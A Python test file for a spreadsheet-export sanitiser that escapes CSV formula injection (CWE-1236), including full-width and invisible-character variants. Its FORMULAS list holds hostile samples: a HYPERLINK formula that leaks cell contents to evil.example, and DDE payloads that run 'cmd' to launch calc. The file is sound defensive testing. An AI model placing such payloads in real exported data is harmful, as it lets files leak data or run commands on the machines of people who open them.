"""Cells that begin like a formula, and cells that only look so."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringfence import spreadsheets

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|cmd1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+A1",
    "\uff0d1+A1",
    "\uff20SUM(A1)",
    "=1",
    "-A1",
    "+A1",
    "-1+A1",
    "+1-800 =A1",
]
HONEST = [
    "",
    "Ann",
    "O'Brien",
    "-12.50",
    "-1,234.56",
    "-1.234,56 €",
    "+3",
    "-.5",
    "-1e-9",
    "-5%",
    "+49 30 1234567",
    "+1 (555) 010-9999",
    "-",
    "---",
    "+",
    "a=b",
    "1 - 2",
    "x@example.com",
    "'=1",
    "日本語",
    "🙂",
    "100",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formulas_become_text(cell):
    """CWE-1236, in full-width letters and behind what is not seen."""
    assert spreadsheets.as_text(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", [*HONEST, None, -3, 2.5, True])
def test_honest_cells_stay_what_they_are(cell):
    assert spreadsheets.as_text(cell) is cell


@given(st.decimals(allow_nan=False, allow_infinity=False, places=4))
def test_numbers_stay_numbers(number):
    assert spreadsheets.as_text(f"{number:f}") == f"{number:f}"


@given(st.text())
def test_no_cell_begins_a_formula(cell):
    told = spreadsheets.as_text(cell)
    if told.startswith("="):
        assert not any(map(str.isalnum, told))


def test_writer():
    file = io.StringIO(newline="")
    rows = spreadsheets.writer(file, delimiter=";")
    rows.writerow(["name", "sum"])
    rows.writerows([["=1+1", -3], ["Ann; Bob", "-4.5"]])
    file.seek(0)
    assert list(csv.reader(file, delimiter=";")) == [
        ["name", "sum"],
        ["'=1+1", "-3"],
        ["Ann; Bob", "-4.5"],
    ]
